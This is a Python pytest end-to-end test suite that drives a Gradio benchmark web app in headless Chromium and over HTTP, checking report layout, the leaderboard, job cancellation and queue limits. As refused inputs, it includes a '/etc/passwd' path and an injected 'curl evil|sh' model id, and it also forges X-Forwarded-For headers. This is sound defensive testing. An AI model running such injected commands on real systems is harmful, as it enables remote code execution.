"""End to end in a real browser and over the Space's HTTP API: the Space served on 127.0.0.1,
driven by headless Chromium (Debian's ``chromium`` through Playwright from PyPI) and by plain
HTTP requests, as visitors -- and a careless or hostile client -- would use it.

* every task's report at 1280 px wide (IN-9: evaluate, challenge, noise, saliency, graying;
  ImageNet-E: evaluate with the defaults its dataset gives): the checks stage as the click's
  first status (how soon is measured by ``bench/space_status_latency.py``, never asserted
  here: a busy machine would break a timed assertion), no table wider than the page, plots
  at their own size, the files to download; screenshots kept in ``BGBENCH_SCREENSHOT_DIR``
  when set;
* the leaderboard keeps one row per model x dataset x protocol;
* availability: a visitor who closes the page, presses Stop, or never reads its updates
  frees the queue (the job's process and its data-loader workers are gone from the process
  table, the next visitor is served); a client cannot queue a second job, whatever
  X-Forwarded-For it writes; a refused model id is refused before the queue while a job
  runs; a page loads with the queue full; uploads are refused.

Needs ``apt-get install chromium`` and ``pip install playwright`` (no Playwright browser
download); skipped, saying which is missing, otherwise.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from tests.assertions import live_group
from tests.in9_fixture import VARIANTS

pytestmark = pytest.mark.slow  # a Space server and a browser per module

CHROMIUM = os.environ.get("BGBENCH_CHROMIUM", "/usr/bin/chromium")
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
]
ROOT = Path(__file__).resolve().parents[1]
WIDTH = 1280
LONG = 600_000  # ms: a job on a busy 2-core machine
# ImageNet-E release folders -> edits; 14 ImageNet-1k classes, one photo each: a per-class
# table of 15 columns, wider than a page
IMAGENET_E_FOLDERS = {
    "original": "original",
    "20": "bg_complex",
    "-20": "bg_simpler",
    "full": "size_full",
    "0.05": "size_0.05",
    "random_pos": "position",
}
IMAGENET_E_CLASSES = 14


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _write_imagenet_e_release(root: Path) -> Path:
    """A tiny ImageNet-E release tree (the official folder names), one photo per class."""
    import numpy as np
    from PIL import Image

    from hf_bgbench.labels import imagenet_classes

    rng = np.random.default_rng(0)
    wnids = imagenet_classes()[0][:IMAGENET_E_CLASSES]
    for folder in IMAGENET_E_FOLDERS:
        for y, wnid in enumerate(wnids):
            d = root / "ImageNet-E" / folder / wnid
            d.mkdir(parents=True, exist_ok=True)
            pixels = rng.integers(0, 255, (96, 128, 3), dtype=np.uint8)
            Image.fromarray(pixels).save(d / f"{y}_0.png")
    return root


@pytest.fixture(scope="module")
def imagenet_e_release(tmp_path_factory) -> Path:
    return _write_imagenet_e_release(tmp_path_factory.mktemp("imagenet_e_release"))


class Server:
    def __init__(self, url: str, folder: Path, proc: subprocess.Popen) -> None:
        self.url, self.folder, self.proc = url, folder, proc

    def log(self) -> str:
        return (self.folder / "app.log").read_text()[-4000:]

    def config(self) -> dict:
        with urllib.request.urlopen(self.url + "config", timeout=30) as r:
            return json.loads(r.read())

    def fn_index(self, api_name: str) -> int:
        for dep in self.config()["dependencies"]:
            if dep.get("api_name") == api_name:
                return dep["id"]
        raise AssertionError(f"no endpoint {api_name!r}")

    def jobs(self) -> list[int]:
        """Pids of the app's job processes (multiprocessing spawn children)."""
        out = []
        for status in Path("/proc").glob("[0-9]*/status"):
            try:
                ppid = int(re.search(r"PPid:\s+(\d+)", status.read_text()).group(1))
                cmdline = (status.parent / "cmdline").read_bytes()
            except (OSError, AttributeError):
                continue
            if ppid == self.proc.pid and b"spawn_main" in cmdline:
                out.append(int(status.parent.name))
        return out

    def join(
        self, api_name: str, data: list, client: str, session: str, forged: str = ""
    ) -> tuple[int, dict]:
        """Queue a job as a script would (POST /queue/join), connecting from the loopback
        address ``client`` (127.x.y.z: every one of them reaches the server), with an
        ``X-Forwarded-For`` header of its own making when ``forged``."""
        import http.client

        body = {"data": data, "fn_index": self.fn_index(api_name), "session_hash": session}
        headers = {"Content-Type": "application/json"}
        if forged:
            headers["X-Forwarded-For"] = forged
        host, port = self.url.split("//")[1].strip("/").split(":")
        connection = http.client.HTTPConnection(
            host, int(port), timeout=60, source_address=(client, 0)
        )
        try:
            connection.request("POST", "/gradio_api/queue/join", json.dumps(body), headers)
            response = connection.getresponse()
            return response.status, json.loads(response.read() or b"{}")
        finally:
            connection.close()


@pytest.fixture(scope="module")
def launch(tmp_path_factory):
    """Start ``python spaces/app.py`` with the given settings; stopped at the module's end."""
    if not Path(CHROMIUM).is_file():
        pytest.skip(f"no Chromium at {CHROMIUM} (apt-get install chromium)")
    pytest.importorskip("playwright.sync_api", reason="pip install playwright")
    started: list[tuple[subprocess.Popen, object]] = []

    def start(**settings: str) -> Server:
        folder = tmp_path_factory.mktemp("space")
        port = _free_port()
        env = os.environ | {
            "BGBENCH_LEADERBOARD_DIR": str(folder / "leaderboard"),
            "GRADIO_SERVER_NAME": "127.0.0.1",
            "GRADIO_SERVER_PORT": str(port),
            "GRADIO_ANALYTICS_ENABLED": "False",
            "HF_HUB_OFFLINE": "1",
            "HF_DATASETS_OFFLINE": "1",
            "PYTHONPATH": str(ROOT),
            "TMPDIR": str(folder / "tmp"),  # stopped with SIGTERM: no atexit cleanup
            **settings,
        }
        (folder / "tmp").mkdir()
        log = (folder / "app.log").open("w")
        proc = subprocess.Popen(
            [sys.executable, str(ROOT / "spaces" / "app.py")], env=env, stdout=log, stderr=log
        )
        started.append((proc, log))
        server = Server(f"http://127.0.0.1:{port}/", folder, proc)
        for _ in range(240):
            if proc.poll() is not None:
                pytest.fail("the app exited:\n" + server.log())
            try:
                urllib.request.urlopen(server.url, timeout=2)
                return server
            except OSError:
                time.sleep(0.5)
        pytest.fail("the app did not start:\n" + server.log())

    yield start
    for proc, log in started:
        proc.terminate()
        try:
            proc.wait(20)
        except subprocess.TimeoutExpired:
            proc.kill()
        log.close()


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    if not Path(CHROMIUM).is_file():
        pytest.skip(f"no Chromium at {CHROMIUM} (apt-get install chromium)")
    with sync_playwright() as pw:
        chromium = pw.chromium.launch(executable_path=CHROMIUM, args=FLAGS, headless=True)
        yield chromium
        chromium.close()


def _page(browser, url: str):
    page = browser.new_page(viewport={"width": WIDTH, "height": 1000})
    page.goto(url)
    page.get_by_role("button", name="Score").wait_for()
    return page


def _shot(page, folder: Path, name: str) -> Path:
    path = folder / name
    # images below the fold load lazily: scroll through the page so the shot shows them
    page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
    page.wait_for_timeout(800)
    page.evaluate("window.scrollTo(0, 0)")
    page.screenshot(path=str(path), full_page=True)
    keep = os.environ.get("BGBENCH_SCREENSHOT_DIR")
    if keep:
        Path(keep).mkdir(parents=True, exist_ok=True)
        shutil.copy(path, Path(keep) / name)
    return path


def _visible(page, label: str):
    """The control labelled ``label`` on the tab shown."""
    return page.get_by_label(label, exact=True).filter(visible=True)


def _task(page, task: str, benchmark: str = "in9") -> None:
    from hf_bgbench.space.settings import task_label

    _visible(page, task_label(task, benchmark)).check()


def _pick(page, label: str, option: str) -> None:
    """Choose ``option`` in the dropdown labelled ``label``."""
    box = _visible(page, label)
    box.click()
    box.fill(option)
    page.get_by_role("option", name=option, exact=True).click()
    page.wait_for_timeout(500)


def _click_score_and_see_the_status(page) -> list[str]:
    """Every text the status line takes from the click on Score until it names a stage,
    recorded in the page by a MutationObserver (so no fast change is missed however busy
    the machine), waiting up to 60 s."""
    page.evaluate(
        """() => {
            const el = document.querySelector('#job-status');
            window.__statusTexts = [];
            new MutationObserver(() => window.__statusTexts.push(el.innerText))
                .observe(el, {childList: true, subtree: true, characterData: true});
        }"""
    )
    page.get_by_role("button", name="Score", exact=True).click()
    page.wait_for_function(
        "() => window.__statusTexts.some(t => /Now:|Stopped/.test(t))", timeout=60_000
    )
    return [t for t in page.evaluate("window.__statusTexts") if t.strip()]


def _wait_done(page) -> str:
    from playwright.sync_api import expect

    status = page.locator("#job-status")
    expect(status).to_contain_text(re.compile("Done in|Stopped"), timeout=LONG)
    text = status.inner_text()
    assert "Done in" in text, text
    return text


def _check_layout(page) -> None:
    """Nothing cut off at 1280 px: no report table wider than its box, every plot shown at
    its own aspect ratio (no empty bands) and within the page."""
    overflow = page.evaluate(
        """() => [...document.querySelectorAll('#report table')]
            .filter(t => t.scrollWidth > t.clientWidth + 1)
            .map(t => t.rows[0].innerText.slice(0, 80))"""
    )
    assert overflow == [], overflow
    plots = page.evaluate(
        """() => [...document.querySelectorAll('#plots img')].map(i => {
            const r = i.getBoundingClientRect();
            return [i.alt, r.width, r.height, i.naturalWidth, i.naturalHeight];
        })"""
    )
    assert plots, "no plot shown"
    for name, width, height, natural_w, natural_h in plots:
        assert 0 < width <= WIDTH and height > 0, name
        assert abs(width / height - natural_w / natural_h) < 0.02, name
    page_width = page.evaluate("document.documentElement.scrollWidth")
    assert page_width <= WIDTH, page_width


def _download_links(page) -> list[str]:
    """The addresses of the files offered for download, decoded."""
    from urllib.parse import unquote

    hrefs = page.evaluate("() => [...document.querySelectorAll('a[href]')].map(a => a.href)")
    return [unquote(h) for h in hrefs]


def _results_of(page) -> dict:
    href = page.locator("a[href*='.json']").first.get_attribute("href")
    return json.loads(page.request.get(href).body())


@pytest.fixture(scope="module")
def reports_server(launch, in9_release, imagenet_e_release):
    return launch(
        BGBENCH_SPACE_DATASETS=(f"in9-local={in9_release},imagenet-e-local={imagenet_e_release}"),
        BGBENCH_SPACE_MAX_IMAGES="4",  # noise, saliency, graying: a seeded subset of 4
    )


def test_score_the_bundled_model_in_a_browser(reports_server, browser):
    from playwright.sync_api import expect

    server = reports_server
    page = _page(browser, server.url)
    # the status names the first stage (the checks, before the model loads) as the click's
    # first update, and the button says it works. (How soon, in seconds, is a speed target:
    # a timed assertion here would fail on a busy machine.)
    seen = [t for t in _click_score_and_see_the_status(page) if "Now:" in t]
    assert "Now: checking the model and the dataset" in seen[0], seen
    expect(page.locator("#score-button")).to_be_disabled()
    expect(page.locator("#job-status")).to_contain_text(re.compile(r"in9/\w+"), timeout=LONG)
    _shot(page, server.folder, "space_progress.png")
    _wait_done(page)
    expect(page.locator("#score-button")).to_be_enabled()
    report = page.locator("#report")
    results = _results_of(page)
    text = report.inner_text()
    gap = 100 * results["bg_gap"]
    assert f"BG-GAP = {gap:.1f} points" in text
    for variant, r in results["variants"].items():
        assert f"{100 * r['accuracy']:.1f}" in text, variant
    assert list(results["variants"]) == list(VARIANTS)  # every variant the dataset holds
    assert "Added to the leaderboard" in text
    # the downloaded results name the dataset, never the server's folders
    blob = json.dumps(results)
    assert str(server.folder) not in blob and "/tmp/" not in blob and "/root" not in blob
    samples = page.locator("#samples")
    expect(samples.locator("img")).to_have_count(6 * len(results["variants"]))
    expect(samples.locator("tr")).to_have_count(1 + len(results["variants"]))
    for variant in results["variants"]:
        expect(samples.get_by_role("row").filter(has_text=variant)).to_have_count(1)
    _check_layout(page)
    _shot(page, server.folder, "space_report_in9_evaluate.png")

    # the same model, dataset and protocol again: still one row
    _click_score_and_see_the_status(page)
    _wait_done(page)
    page.get_by_role("tab", name="Leaderboard").click()
    # the published benchmark's board: the papers' rows; a run on the local sample is
    # ranked apart, with its image count and data fingerprint
    board, other = page.locator("#leaderboard"), page.locator("#leaderboard-other")
    expect(board).to_contain_text("published", timeout=60_000)
    expect(board).to_contain_text("BG-GAP (pts)")
    expect(other).to_contain_text("tf_efficientnet_lite0", timeout=60_000)
    expect(other).to_contain_text("in9-local")
    expect(other).to_contain_text("measured")
    expect(other).to_contain_text(results["data"]["fingerprint"][:12])
    expect(other).to_contain_text("images")
    expect(board.get_by_role("row").filter(has_text="tf_efficientnet_lite0")).to_have_count(0)
    expect(other.get_by_role("row").filter(has_text="published")).to_have_count(0)
    (stored,) = [
        json.loads(line)
        for line in (server.folder / "leaderboard" / "rows.jsonl").read_text().splitlines()
    ]
    assert stored["scores"]["BG-GAP"] == pytest.approx(round(gap, 2))
    assert stored["model"] == "tf_efficientnet_lite0" and stored["protocol"]
    for board_id in ("leaderboard", "leaderboard-other"):
        cut = page.evaluate(
            f"""() => {{ const t = document.querySelector('#{board_id} table');
                       return t ? t.getBoundingClientRect().right : 0; }}"""
        )
        assert 0 < cut <= WIDTH, board_id
    _shot(page, server.folder, "space_leaderboard.png")

    page.get_by_role("tab", name="Explore").click()
    page.get_by_role("button", name="Show every variant").click()
    gallery = page.locator("#explore-gallery")
    expect(gallery.locator("img")).to_have_count(len(VARIANTS), timeout=LONG)
    for variant in VARIANTS:
        expect(gallery).to_contain_text(f"{variant}:")
    expect(page.locator("#explore-summary")).to_contain_text(f"of {len(VARIANTS)} variants")
    _shot(page, server.folder, "space_explore.png")

    page.get_by_role("tab", name="Score a model").click()
    page.locator("#score-model textarea").fill("/etc/passwd")
    page.get_by_role("button", name="Score", exact=True).click()
    expect(page.get_by_text("paths and links are refused").first).to_be_visible(timeout=60_000)
    expect(page.locator("#job-status")).to_contain_text("Stopped")
    _shot(page, server.folder, "space_refusal.png")
    page.close()


@pytest.mark.parametrize("task", ["challenge", "noise", "saliency", "graying"])
def test_every_task_report_fits_the_page(reports_server, browser, task):
    from playwright.sync_api import expect

    page = _page(browser, reports_server.url)
    _task(page, task)
    expect(page.locator("#job-status")).to_be_visible()
    _click_score_and_see_the_status(page)
    _wait_done(page)
    results = _results_of(page)
    assert results["task"] == task
    report = page.locator("#report").inner_text()
    assert report.strip()
    # every image the report cites can be seen on the page and downloaded
    shown = page.evaluate("() => [...document.querySelectorAll('#plots img')].map(i => i.alt)")
    links = _download_links(page)
    for cited in set(re.findall(r"[\w.-]+\.png", report)):
        assert cited in shown and any(link.endswith(cited) for link in links), cited
    if task == "challenge":  # the cap (100 foregrounds) is above the 18 the data has
        assert "Added to the leaderboard" in report
    else:  # 4 of 18 images: a real subset, said plainly
        assert "it scored a seeded subset (max_images=4)" in report
    _check_layout(page)
    _shot(page, reports_server.folder, f"space_report_in9_{task}.png")
    page.close()


def test_imagenet_e_defaults_score(reports_server, browser):
    """Picking ImageNet-E ticks the edits its dataset holds, and those defaults score; its
    wide per-class table becomes the classes that drop most, the full table a download."""
    from playwright.sync_api import expect

    page = _page(browser, reports_server.url)
    _pick(page, "Benchmark", "imagenet-e")
    expect(_visible(page, "Dataset")).to_have_value("imagenet-e-local")
    page.wait_for_timeout(1000)
    ticked = sorted(
        page.evaluate(
            "() => [...document.querySelectorAll('#variants input[type=checkbox]:checked')]"
            ".map(c => c.closest('label').innerText.trim())"
        )
    )
    assert ticked == sorted(IMAGENET_E_FOLDERS.values()), ticked
    _click_score_and_see_the_status(page)
    _wait_done(page)
    results = _results_of(page)
    assert sorted(results["variants"]) == sorted(IMAGENET_E_FOLDERS.values())
    report = page.locator("#report")
    expect(report).to_contain_text("mean DA")
    expect(report).to_contain_text("classes that drop most")
    links = _download_links(page)
    assert any(link.endswith("per_class.csv") for link in links), links
    page.get_by_text("LaTeX row and model card (model-index)").click()
    extras = page.locator("#report-extras")
    expect(extras).to_contain_text("type: local-")
    assert "bgbench/imagenet-e" not in extras.text_content()
    _check_layout(page)
    _shot(page, reports_server.folder, "space_report_imagenet_e_evaluate.png")
    page.close()


PHONE = 390  # px: a phone's width


def _at(page, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 1000 if width > PHONE else 844})
    page.wait_for_timeout(600)


def _phone_layout_problems(page, where: str) -> list[str]:
    """What is cut off at 390 px: the page itself scrolling sideways (a wide table or grid
    must scroll inside its own box), a table header squeezed to a character per line, a
    table or grid running past the screen's edge."""
    problems = []
    width = page.evaluate("document.documentElement.scrollWidth")
    if width > PHONE:
        problems.append(f"{where}: the page is {width} px wide")
    squeezed = page.evaluate(
        """() => [...document.querySelectorAll('#report th, #compare-report th, #leaderboard th')]
            .filter(th => th.offsetParent && th.innerText.trim().length > 3)
            .filter(th => th.getBoundingClientRect().width < 2.5 * parseFloat(
                getComputedStyle(th).fontSize))
            .map(th => th.innerText.slice(0, 30))"""
    )
    problems += [f"{where}: header squeezed: {h!r}" for h in squeezed]
    cut = page.evaluate(
        """() => [...document.querySelectorAll(
                '#samples table, #flips .bgbench-flip, #leaderboard table, #report table')]
            .filter(t => t.offsetParent)
            .filter(t => {
                // fine when some box around it scrolls sideways and fits on the screen (a
                // table may sit in nested scrolling boxes, e.g. Gradio's dataframe: an inner
                // one as wide as its columns inside an outer one as wide as the screen)
                for (let e = t; e; e = e.parentElement) {
                    const o = getComputedStyle(e).overflowX;
                    if ((o === 'auto' || o === 'scroll')
                        && e.getBoundingClientRect().right <= window.innerWidth + 1) return false;
                }
                return t.getBoundingClientRect().right > window.innerWidth + 1; })
            .map(t => t.id || t.className || t.tagName)"""
    )
    problems += [f"{where}: cut off: {c}" for c in cut]
    return problems


def test_reproduce_compare_flips_and_a_phone(reports_server, browser):
    """A Score run offers its exact command, results.md and the per-image predictions; the
    Compare tab pairs two models (the scored run reused); Explore shows the images behind
    BG-GAP; each at 1280 and 390 px wide."""
    from playwright.sync_api import expect

    server, shots = reports_server, reports_server.folder
    problems: list[str] = []  # at 390 px, all tabs looked at before the test says so
    page = _page(browser, server.url)
    _click_score_and_see_the_status(page)
    _wait_done(page)
    report = page.locator("#report")
    expect(report).to_contain_text("Reproduce this")
    expect(report).to_contain_text("bgbench evaluate tf_efficientnet_lite0 --benchmark in9")
    links = _download_links(page)
    # (a download has no folders: predictions/mixed_same.parquet comes as mixed_same.parquet)
    for name in ("results.md", "mixed_same.parquet", "mixed_rand.parquet"):
        assert any(link.endswith("/" + name) for link in links), (name, links)
    _shot(page, shots, "space_score_1280.png")
    _at(page, PHONE)
    problems += _phone_layout_problems(page, "score")
    _shot(page, shots, "space_score_390.png")
    _at(page, WIDTH)

    page.get_by_role("tab", name="Compare").click()
    page.get_by_role("button", name="Compare", exact=True).click()
    status = page.locator("#compare-status")
    expect(status).to_contain_text(re.compile("Done in|Stopped"), timeout=LONG)
    assert "Done in" in status.inner_text(), status.inner_text()
    compared = page.locator("#compare-report")
    expect(compared).to_contain_text("tf_efficientnet_lite0 (A) vs tf_efficientnet_lite1 (B)")
    expect(compared).to_contain_text(re.compile(r"BG-GAP [+−-]\d"))
    expect(compared).to_contain_text("bgbench compare bgbench_evaluate_a bgbench_evaluate_b")
    expect(page.locator("#compare-plot img")).to_have_count(1)
    assert any(link.endswith("compare.json") for link in _download_links(page))
    _shot(page, shots, "space_compare_1280.png")
    _at(page, PHONE)
    problems += _phone_layout_problems(page, "compare")
    _shot(page, shots, "space_compare_390.png")
    _at(page, WIDTH)

    page.get_by_role("tab", name="Explore").click()
    page.get_by_role("button", name="Show the images behind the gap").click()
    summary = page.locator("#flips-summary")
    expect(summary).to_contain_text("points over 18 images", timeout=LONG)
    expect(summary).to_contain_text("bgbench evaluate tf_efficientnet_lite0")
    heads = page.locator("#flips h3")
    expect(heads).to_have_count(2)
    expect(heads.first).to_contain_text("Right on mixed_same, wrong on mixed_rand")
    flipped = page.locator("#flips .bgbench-flip")
    for n in range(flipped.count()):  # each: the original and both variants, predictions
        expect(flipped.nth(n).locator("img")).to_have_count(3)
    _shot(page, shots, "space_flips_1280.png")
    _at(page, PHONE)
    problems += _phone_layout_problems(page, "flips")
    _shot(page, shots, "space_flips_390.png")
    _at(page, WIDTH)

    page.get_by_role("tab", name="Leaderboard").click()
    expect(page.locator("#leaderboard")).to_contain_text("published", timeout=60_000)
    _at(page, PHONE)
    problems += _phone_layout_problems(page, "leaderboard")
    _shot(page, shots, "space_leaderboard_390.png")
    page.close()
    assert problems == [], problems


# --------------------------------------------------------------------------- availability


@pytest.fixture(scope="module")
def busy_server(launch, in9_release):
    """A Space with a queue of one, where a client that reads nothing for 5 s is dropped and
    noise scores all 18 images (a job of minutes)."""
    return launch(
        BGBENCH_SPACE_DATASETS=f"in9-local={in9_release}",
        BGBENCH_SPACE_QUEUE="1",
        BGBENCH_SPACE_UNREAD_SECONDS="5",
        BGBENCH_SPACE_MAX_IMAGES="0",
    )


def _noise(dataset: str = "in9-local") -> list:
    return ["tf_efficientnet_lite0", dataset, ["original"], False, "in9", "noise"]


def _evaluate() -> list:
    return ["tf_efficientnet_lite0", "in9-local", ["original"], False, "in9", "evaluate"]


def _wait_for(condition, seconds: float, what: str) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return
        time.sleep(0.5)
    raise AssertionError(f"not within {seconds} s: {what}")


def _running_job(server, workers: bool = True) -> tuple[int, set[int]]:
    """The running job's pid (its process group) and the processes of that group seen --
    with ``workers``, once its data-loader workers have started too (about 10 s in)."""
    _wait_for(lambda: server.jobs(), 120, "the job started")
    (job,) = server.jobs()
    seen: set[int] = set(live_group(job))

    def workers_started() -> bool:
        seen.update(live_group(job))
        return len(seen) > 1

    if workers:
        _wait_for(workers_started, 120, "the job's data-loader workers started")
    return job, seen


def _none_left(server, job: int, seen: set[int], why: str) -> None:
    """No process of the job's group -- the job, its workers -- is left: checked in the
    process table (a worker the job started would otherwise live on, re-parented)."""
    _wait_for(lambda: not live_group(job), 60, f"{why}: every process of the job ended")
    assert not [p for p in seen if p in live_group(job)]


def test_a_client_that_never_reads_frees_the_queue(busy_server):
    """A script queues a long job and never reads its updates: the job -- with its workers
    -- is stopped after the short unread limit, and the next visitor's job runs."""
    status, body = busy_server.join("score", _noise(), "127.0.0.11", "deaf-client")
    assert status == 200, body
    job, seen = _running_job(busy_server, workers=False)  # stopped within seconds
    _wait_for(lambda: not busy_server.jobs(), 120, "the unread job was stopped")
    _none_left(busy_server, job, seen, "unread")
    status, body = busy_server.join("score", _evaluate(), "127.0.0.12", "next-visitor")
    assert status == 200, body
    _wait_for(lambda: busy_server.jobs(), 120, "the next visitor's job started")


def test_a_visitor_who_closes_the_page_frees_the_queue(busy_server, browser):
    from playwright.sync_api import expect

    _wait_for(lambda: not busy_server.jobs(), 300, "the server is idle")
    page = _page(browser, busy_server.url)
    _task(page, "noise")
    _click_score_and_see_the_status(page)
    job, seen = _running_job(busy_server)
    page.close()  # the visitor leaves mid-job
    _wait_for(lambda: job not in busy_server.jobs(), 60, "the job's process was killed")
    _none_left(busy_server, job, seen, "page closed")
    # the next visitor is served by the freed slot: no job of the first visitor's is left to
    # wait for (checked above), and the new one runs to the end
    page = _page(browser, busy_server.url)
    _click_score_and_see_the_status(page)
    _wait_done(page)
    expect(page.locator("#report")).to_contain_text("BG-GAP")
    page.close()


def test_stop_cancels_the_job(busy_server, browser):
    from playwright.sync_api import expect

    _wait_for(lambda: not busy_server.jobs(), 300, "the server is idle")
    page = _page(browser, busy_server.url)
    _task(page, "noise")
    _click_score_and_see_the_status(page)
    job, seen = _running_job(busy_server)
    page.get_by_role("button", name="Stop").click()
    expect(page.locator("#job-status")).to_contain_text("Stopped")
    expect(page.locator("#score-button")).to_be_enabled()
    _wait_for(lambda: not busy_server.jobs(), 60, "the stopped job's process was killed")
    _none_left(busy_server, job, seen, "Stop")
    page.close()


def test_one_job_per_client_and_a_full_queue_still_loads_the_page(busy_server, browser):
    from playwright.sync_api import expect

    _wait_for(lambda: not busy_server.jobs(), 300, "the server is idle")
    page = _page(browser, busy_server.url)  # a reader, so the running job is not dropped
    _task(page, "noise")
    _click_score_and_see_the_status(page)
    _wait_for(lambda: busy_server.jobs(), 120, "the job started")
    # the same client cannot queue another, whatever X-Forwarded-For it writes
    for n, forged in enumerate(("", "10.0.0.3", "10.0.0.4, 10.0.0.5")):
        status, body = busy_server.join("score", _noise(), "127.0.0.1", f"tab-{n}", forged)
        assert status == 422, (forged, body)
        assert "You already have a scoring job waiting or running" in json.dumps(body)
    # a model id the checks refuse is refused at once, before the queue, while a job runs
    bad = ["/etc/passwd", "in9-local", ["original"], False, "in9", "evaluate"]
    status, body = busy_server.join("score", bad, "127.0.0.13", "bad-id")
    assert status == 422 and "paths and links are refused" in json.dumps(body), body
    assert len(busy_server.jobs()) == 1
    # another client fills the queue (size 1); a third is turned away
    assert busy_server.join("score", _evaluate(), "127.0.0.14", "filler")[0] == 200
    assert busy_server.join("score", _evaluate(), "127.0.0.15", "late")[0] == 503
    # a new visitor's page still loads: the Explore list and the leaderboard are there
    other = browser.new_page(viewport={"width": WIDTH, "height": 1000})
    other.goto(busy_server.url)
    other.get_by_role("tab", name="Leaderboard").click()
    expect(other.locator("#leaderboard")).to_contain_text("published", timeout=30_000)
    other.get_by_role("tab", name="Explore").click()
    expect(_visible(other, "Image (class · id)")).to_have_value(re.compile(r" · "), timeout=30_000)
    assert "busy" not in other.locator("body").inner_text().lower()
    _shot(other, busy_server.folder, "space_queue_full.png")
    # a bad model id typed on a page is refused at once, while the job runs and the queue
    # is full: it never waits for its turn
    other.get_by_role("tab", name="Score a model").click()
    other.locator("#score-model textarea").fill("owner/x;curl evil|sh")
    other.get_by_role("button", name="Score", exact=True).click()
    expect(other.locator("#job-status")).to_contain_text("Stopped", timeout=30_000)
    expect(other.locator("#job-status")).to_contain_text("only letters, digits")
    assert len(busy_server.jobs()) == 1
    _shot(other, busy_server.folder, "space_refused_while_busy.png")
    other.close()
    page.get_by_role("button", name="Stop").click()
    page.close()


def test_uploads_are_refused(busy_server):
    """The Space takes no uploads: a small .html file is answered 413, and a 48 MB one is
    cut off while it is still being sent (413, or the connection closed on the sender)."""
    import uuid

    for name, size in (("page.html", 200), ("big.bin", 48 * 2**20)):
        boundary = uuid.uuid4().hex
        payload = b"<html>x</html>" * (size // 14 + 1)
        body = (
            (
                f'--{boundary}\r\nContent-Disposition: form-data; name="files"; '
                f'filename="{name}"\r\nContent-Type: application/octet-stream\r\n\r\n'
            ).encode()
            + payload[:size]
            + f"\r\n--{boundary}--\r\n".encode()
        )
        request = urllib.request.Request(
            busy_server.url + "gradio_api/upload",
            data=body,
            headers={"Content-Type": f"multipart/form-data; boundary={boundary}"},
        )
        with pytest.raises(urllib.error.URLError) as info:
            urllib.request.urlopen(request, timeout=60)
        if isinstance(info.value, urllib.error.HTTPError):
            assert info.value.code == 413, name
        else:  # refused before the sender finished
            assert name == "big.bin" and isinstance(info.value.reason, ConnectionError)
    # nothing of either was kept
    kept = [p.name for p in busy_server.folder.rglob("*") if p.name in ("page.html", "big.bin")]
    assert kept == []
